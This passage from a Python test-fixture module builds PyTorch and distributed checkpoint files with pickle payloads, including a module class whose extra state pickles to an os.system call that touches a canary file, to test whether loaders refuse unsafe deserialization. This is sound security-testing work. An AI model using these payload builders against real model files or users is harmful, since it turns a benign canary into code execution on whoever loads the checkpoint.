    object.__setattr__(item, "chunks", [ChunkStorageMetadata(offsets=torch.Size([0]),
                                                             sizes=torch.Size([3]))])
    write_dcp_metadata(directory, metadata)
    return directory


def dcp_tensor_chunk_with_payload(directory: Path, canary_path: str, *,
                                  kind: str = "reduce_os_system", wrap: str = "zip") -> Path:
    """A real DCP checkpoint in ``directory`` whose tensor chunk of ``w`` holds the ``kind``
    payload (metadata offsets/lengths fixed). torch 2.1's DCP reads tensor chunks with
    ``torch.load`` (weights_only off): ``dcp.load({"w": torch.empty(3)}, ...)`` creates the
    canary there; torch 2.13 reads them with ``weights_only=True`` and refuses."""
    directory = _dcp_save(_dcp_state(), Path(directory))
    metadata = read_dcp_metadata(directory)
    replace_dcp_entry(directory, metadata, "w", _entry_payload(canary_path, kind, wrap))
    write_dcp_metadata(directory, metadata)
    return directory


# -- a model whose own state is the payload -----------------------------------------------

@functools.cache
def _extra_state_module_class() -> type[torch.nn.Module]:
    import torch

    class ExtraStateBomb(torch.nn.Module):
        """A Linear(2, 2) whose extra state pickles to ``os.system("touch <canary>")``."""

        def __init__(self, canary: str) -> None:
            super().__init__()
            self.linear = torch.nn.Linear(2, 2)
            self.canary = canary
            self.loaded_extra_state: Any = None

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.linear(x)

        def get_extra_state(self) -> SystemCall:
            return SystemCall(touch_command(self.canary))

        def set_extra_state(self, state: Any) -> None:
            self.loaded_extra_state = state

    ExtraStateBomb.__module__ = __name__  # pickled by reference, as a top-level class is
    ExtraStateBomb.__qualname__ = "ExtraStateBomb"
    return ExtraStateBomb


def __getattr__(name: str) -> Any:
    """``ExtraStateBomb``, built on first use (torch is imported only then)."""
    if name == "ExtraStateBomb":
        return _extra_state_module_class()
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


def model_with_payload_extra_state(canary_path: str) -> torch.nn.Module:
    """A module whose ``state_dict()`` has ``_extra_state`` = a :class:`SystemCall`:
    ``torch.save(model.state_dict())`` embeds the payload, and a ``weights_only=False`` load
    of that file creates ``canary_path``. ``deepcopy`` of the model runs nothing, and neither
    does ``torch.save(model)`` of the whole module (extra state is in the state_dict only)."""
    return _extra_state_module_class()(canary_path)


# -- tables -------------------------------------------------------------------------------

ENTRY_CONTAINERS: dict[str, Callable[[Path, bytes], Path]] = {
    "torch_zip": torch_zip_with_payload,
    "legacy": legacy_with_payload,
    "bare_pickle": bare_pickle_with_payload,
    "golden": lambda directory, payload: golden_with_payload(directory, payload,
                                                             forge_sidecar=False),
    "golden_forged_sidecar": lambda directory, payload: golden_with_payload(
        directory, payload, forge_sidecar=True),
    "dcp_metadata": lambda directory, payload: dcp_with_payload_metadata(
        Path(directory) / "evil.dcp", payload),
}
"""``write(directory, payload) -> path``: a file (a directory for ``dcp_metadata``) in
``directory`` carrying ``payload`` where a reader meets it first. The golden writers treat
``directory`` as the test's golden directory."""

DCP_CANARY_WRITERS: dict[str, Callable[[Path, str], Path]] = {
    "dcp_bytes_entry": lambda directory, canary: dcp_with_payload_bytes_entry(
        Path(directory) / "evil.dcp", canary),
    "dcp_bytes_entry_disguised_as_tensor": lambda directory, canary: (
        dcp_bytes_entry_disguised_as_tensor(Path(directory) / "evil.dcp", canary)),
    "dcp_tensor_chunk": lambda directory, canary: dcp_tensor_chunk_with_payload(
        Path(directory) / "evil.dcp", canary),
}
"""``write(directory, canary_path) -> path``: a DCP directory (``directory/evil.dcp``) whose
``.metadata`` is clean and whose data file carries the payload."""
